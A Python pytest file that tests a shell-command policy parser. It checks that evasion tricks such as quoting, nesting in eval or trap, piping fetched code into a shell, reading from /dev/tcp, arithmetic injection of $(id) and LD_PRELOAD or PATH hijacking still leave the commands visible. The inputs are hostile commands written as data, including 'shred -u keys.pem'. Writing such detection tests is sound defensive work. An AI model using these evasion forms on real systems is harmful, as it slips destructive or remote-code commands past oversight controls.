"""The corpus, and the facts that each class of evasion must leave visible."""

import json
from pathlib import Path

import pytest

from policy.command import Assign, InlineCode
from tests.policy.reader import argvs, commands, named, read, read_words

CORPUS = [json.loads(line) for line in (Path(__file__).parent / "corpus.jsonl").read_text().splitlines()]
DESTROY = ("shred", "-u", "keys.pem")


@pytest.mark.parametrize("case", CORPUS, ids=lambda case: case["command"][:40])
def test_every_command_of_the_corpus_is_read_word_for_word(case: dict[str, list[list[str | None]]]) -> None:
    reading = read(str(case["command"]))

    assert reading.script.parse_error is None
    assert [list(command.argv) for command in reading.commands if command.argv] == case["argv"]


@pytest.mark.parametrize(
    "text",
    [
        "s''hred -u keys.pem",
        'sh"red" -u keys.pem',
        "\\shred -u keys.pem",
        "$'\\x73hred' -u keys.pem",
        "$'\\163\\150red' -u keys.pem",
        "$'\\u0073hred' -u keys.pem",
        "sh\\\nred -u keys.pem",
        '$"shred" -u keys.pem',
    ],
)
def test_quoting_does_not_hide_a_name(text: str) -> None:
    assert argvs(text) == [DESTROY]


def test_a_brace_can_make_the_command_and_its_argument() -> None:
    assert argvs("{shred,-u,keys.pem}") == [DESTROY]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("$tool x", "param"),
        ('"$@"', "param"),
        ("${PATH:0:1}bin x", "param"),
        ("$(tool shred) x", "cmdsub"),
        ("`tool shred` x", "cmdsub"),
        ("/usr/bin/shre? x", "glob"),
        ("/usr/bin/shre[d] x", "glob"),
        ("$((1)) x", "number"),
        ("{1..9999} x", "brace"),
        ("shred$IFS-u", "param"),
    ],
)
def test_a_name_that_only_bash_will_know_says_why(text: str, reason: str) -> None:
    last = commands(text)[-1]

    assert (last.name, last.path_kind, last.dynamic[0]) == (None, "dynamic", reason)


@pytest.mark.parametrize(
    ("word", "name", "kind"),
    [
        ("shred", "shred", "bare"),
        ("/usr/../usr//bin/shred", "shred", "system"),
        ("./shred", "shred", "workspace"),
        ("../workspace/shred", "shred", "workspace"),
        ("../usr/bin/shred", "shred", "system"),
        ("/tmp/shred", "shred", "outside"),
        ("~/bin/shred", "shred", "outside"),
        ("/proc/self/root/bin/shred", "shred", "outside"),
        ("[", "[", "bare"),
    ],
)
def test_a_command_is_named_by_its_normalised_path(word: str, name: str, kind: str) -> None:
    (command,) = commands(f"{word} x")

    assert (command.name, command.path_kind) == (name, kind)


@pytest.mark.parametrize(
    ("text", "via"),
    [
        ('echo "$(shred -u keys.pem)"', ("$()",)),
        ("cat <<E\n`shred -u keys.pem`\nE", ("$()",)),
        ("cat <(shred -u keys.pem)", ("<()",)),
        ("tee >(shred -u keys.pem)", (">()",)),
        ("true\nshred -u keys.pem", ()),
        ("true & shred -u keys.pem", ()),
        ("true | { false || (shred -u keys.pem); }", ()),
        ("f() { shred -u keys.pem; }; f", ("function f",)),
        ("if true; then :; else shred -u keys.pem; fi", ()),
        ("case x in *) shred -u keys.pem;; esac", ()),
        ("coproc shred -u keys.pem", ("coproc",)),
        ("[[ -n $(shred -u keys.pem) ]]", ("$()",)),
        ("(( $(shred -u keys.pem) ))", ("$()",)),
        ("a[$(shred -u keys.pem)]=1", ("$()",)),
        ("echo ${x:-${y:-$(shred -u keys.pem)}}", ("$()",)),
        ("echo @(a|$(shred -u keys.pem))", ("$()",)),
        ("trap 'shred -u keys.pem' EXIT", ("trap",)),
        ("eval 'shred -u' keys.pem", ("eval",)),
        ("sh -c 'eval \"shred -u keys.pem\"'", ("sh -c", "eval")),
        ("time -p shred -u keys.pem", ("time",)),
        ("sudo -u root env A=1 nice -n 3 shred -u keys.pem", ("sudo", "env", "nice")),
        ("find . -execdir shred -u keys.pem ';'", ("find -execdir",)),
        ("bash <<< 'shred -u keys.pem'", ("bash <<",)),
        (". /dev/fd/3 3<<< 'shred -u keys.pem'", ("source <<",)),
        ("alias x='shred -u keys.pem'", ("alias",)),
        ("PS4='$(shred -u keys.pem)'", ("$()",)),
        ("EDITOR='shred -u keys.pem' git commit", ("EDITOR=",)),
        ("export PAGER='shred -u keys.pem'", ("PAGER=",)),
        ("true #\\\nshred -u keys.pem", ()),
    ],
)
def test_nesting_does_not_hide_a_command(text: str, via: tuple[str, ...]) -> None:
    assert (DESTROY, via) in [(command.argv, command.via) for command in commands(text)]


def test_a_wrapper_stays_visible_beside_what_it_wraps() -> None:
    assert [command.name for command in commands("sudo env A=1 timeout 5 make")] == ["sudo", "env", "timeout", "make"]


@pytest.mark.parametrize(
    "text",
    [
        'sh -c "$code"',
        "bash -c $(make-code)",
        "eval $code",
        'trap "$code" EXIT',
        "xargs sh -c",
        "xargs bash",
        'ssh host "$code"',
        "bash $options 'echo'",
        "source <(fetch)",
        "bash <(fetch)",
        "su -c $code",
        'watch "$code"',
        "sed 's/x/y/e' f",
        "parallel",
        'git -c alias.x="$code" x',
    ],
)
def test_text_that_nobody_can_read_is_code_that_is_none(text: str) -> None:
    assert None in [code.code for code in read(text).script.inline_code]


@pytest.mark.parametrize(
    ("text", "shell"),
    [
        ("fetch | sh", "sh"),
        ("fetch | sudo -n bash -s -- x", "bash"),
        ("fetch | (cd x && bash)", "bash"),
        ("fetch | while true; do zsh; done", "zsh"),
        ("fetch | python3 -", "python3"),
        ("fetch | tee log | sh", "sh"),
        ("bash < <(fetch)", "bash"),
        ("bash < /dev/tcp/host.example/80", "bash"),
        ("exec < <(fetch); bash", "bash"),
        ("fetch | . /dev/stdin", "source"),
        ("fetch | bash /dev/fd/0", "bash"),
        ("fetch | ssh host.example", "ssh"),
        ("fetch | at now", "at"),
        ("bash", "bash"),
    ],
)
def test_a_program_that_comes_through_a_pipe_is_named(text: str, shell: str) -> None:
    assert shell in read(text).script.pipe_to_shell


@pytest.mark.parametrize("text", ["fetch | bash -c 'cat'", "bash < build.sh", "fetch | sh build.sh", "bash --version"])
def test_a_shell_that_does_not_read_its_program_from_the_pipe_is_not(text: str) -> None:
    assert read(text).script.pipe_to_shell == ()


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("vim -es -c ':!id' -c q", ":!id"),
        ("ex '+!id' f", "+!id"),
        ("less '+!id' f", "+!id"),
        ("emacs --batch --eval '(f)'", "(f)"),
        ("gdb -batch -ex 'shell id'", "shell id"),
        ("awk 'BEGIN{system(\"id\")}'", 'BEGIN{system("id")}'),
        ("sqlite3 -cmd '.shell id' db", ".shell id"),
    ],
)
def test_commands_of_editors_and_debuggers_are_inline_code(text: str, code: str) -> None:
    assert code in [found.code for found in read(text).script.inline_code]


def test_a_program_in_a_here_document_is_inline_code() -> None:
    assert read("python3 - <<'E'\nprint(1)\nE").script.inline_code == (InlineCode("python3", "print(1)\n"),)
    assert read("python3 <<E\nprint($x)\nE").script.inline_code == (InlineCode("python3", None),)


@pytest.mark.parametrize(
    "text",
    [
        "x='a[$(id)]'; (( x ))",
        "x='a[$(id)]'; [[ $x -eq 1 ]]",
        "x='a[$(id)]'; echo $((x + 1))",
        "x='a[`id`]'; let y=x",
        "declare -i x='a[$(id)]'",
        "declare -n r='a[$(id)]'",
        "x='$(id)'; echo ${arr[x]}",
        "x='$(id)'; for ((i = x; i < 1; i++)); do :; done",
        "x=$'a[\\x24(id)]'; echo ${y:x:1}",
        "read x <<< 'a[$(id)]'; ((x))",
        "for x in 'a[$(id)]'; do ((x)); done",
        "x='a[$(id)]'; echo ${!x}",
        "printf -v 'a[$(id)]' x",
        "read 'a[$(id)]'",
        "test -v 'a[$(id)]'",
        "[ -v 'a[$(id)]' ]",
        "mapfile -t 'a[$(id)]'",
        "a['$(id)']=1",
        "(( 'a[$(id)]' ))",
        "echo ${x@P}",
    ],
)
def test_a_literal_that_arithmetic_would_run_is_flagged(text: str) -> None:
    assert read(text).script.latent_arithmetic


@pytest.mark.parametrize(
    "text",
    [
        "i=0; while (( i < 3 )); do i=$((i + 1)); done",
        "git commit -m 'drop `null`'; n=$((n + 1))",
        "x='$(id)'; echo \"$x\"",
        "read -r line; echo $line",
        "files=(*.py); echo ${#files[@]}",
    ],
)
def test_ordinary_arithmetic_is_not(text: str) -> None:
    assert not read(text).script.latent_arithmetic


@pytest.mark.parametrize(
    ("text", "assign"),
    [
        ("LD_PRELOAD=./x.so make", Assign("LD_PRELOAD", "./x.so")),
        ("export PATH=./bin:$PATH", Assign("PATH", None, prepends="./bin:")),
        ("\\export PATH=./bin", Assign("PATH", "./bin")),
        ("builtin export PATH=./bin", Assign("PATH", "./bin")),
        ("typeset -x EDITOR=./x", Assign("EDITOR", "./x")),
        ("readonly PATH=./bin", Assign("PATH", "./bin")),
        ("env PATH=./bin make", Assign("PATH", "./bin")),
        ('sudo env "PATH=$PATH" make', Assign("PATH", None, "", prepends="")),
        ("read PATH < f", Assign("PATH", None)),
        ("printf -v PATH ./bin", Assign("PATH", None)),
        ("for PATH in ./bin; do make; done", Assign("PATH", "./bin")),
        (": ${PATH:=./bin}", Assign("PATH", None)),
        ("PATH+=:./bin", Assign("PATH", None, ":./bin")),
        ("BASH_CMDS[ls]=./evil", Assign("BASH_CMDS", "./evil")),
        ("A=~/x:~/y", Assign("A", "/home/dev/x:/home/dev/y")),
    ],
)
def test_every_way_to_set_a_variable_shows_it(text: str, assign: Assign) -> None:
    assert assign in [found for command in read(text).commands for found in command.assigns]


def test_a_script_of_assignments_alone_runs_no_unnamed_command() -> None:
    assert [(command.argv, command.name) for command in read("a=1 b=$(:)\nc=2").commands if not command.via] == [
        ((), ""),
        ((), ""),
    ]


def test_functions_and_aliases_are_listed() -> None:
    script = read("shopt -s expand_aliases; alias ll='ls -l'; build() { make; }; function go { build; }").script

    assert (script.functions, script.aliases) == (("build", "go"), ("ll",))


@pytest.mark.parametrize("character", ["\r", "\x1b", "\u202e", "\u200b", "\u00ad", "\u2066", "\ufeff", "\x7f"])
def test_characters_that_hide_text_from_a_person_are_flagged(character: str) -> None:
    assert read(f"ls {character}x").script.control_chars
    assert read_words("ls", character).script.control_chars


def test_a_carriage_return_is_part_of_a_word() -> None:
    assert argvs("true\rshred x") == [("true\rshred", "x")]


def test_ordinary_text_of_any_language_is_not_flagged() -> None:
    assert not read("git commit -m 'naïve 修正 🎉\tok'\n").script.control_chars


@pytest.mark.parametrize("text", ["if true", "echo 'x", "a && && b", "sh -c 'if'", "eval '('", "x[0]=1 y=2 cmd"])
def test_what_cannot_be_parsed_says_so(text: str) -> None:
    assert read(text).script.parse_error


def test_an_argv_is_not_read_by_a_shell_but_what_it_wraps_may_be() -> None:
    reading = read_words("sudo", "sh", "-c", "echo $(id); ls *")

    assert [command.argv for command in reading.commands] == [
        ("sudo", "sh", "-c", "echo $(id); ls *"),
        ("sh", "-c", "echo $(id); ls *"),
        ("id",),
        ("echo", None),
        ("ls", None),
    ]
    assert read_words("echo", "$(id)", "*", "~").commands[0].argv == ("echo", "$(id)", "*", "~")


def test_an_empty_argv_runs_nothing() -> None:
    assert read_words().commands[0].argv == ()


def test_spans_are_byte_offsets_in_the_outermost_text() -> None:
    text = "echo é; sh -c 'ls'"

    assert [text.encode()[slice(*command.span)] for command in commands(text)] == [
        b"echo \xc3\xa9;",
        b"sh -c 'ls'",
        b"sh -c 'ls'",
    ]


def test_a_dynamic_word_says_what_is_known_of_it() -> None:
    (command,) = commands("cp /etc/*.conf --to=/srv/$x plain")

    assert command.known == ("", "/etc/*.conf", "--to=/srv/", "")


def test_a_command_on_another_machine_says_so() -> None:
    inner = named("ssh host.example 'cat /etc/motd'", "cat")

    assert (inner.elsewhere, inner.cwd) == (True, None)
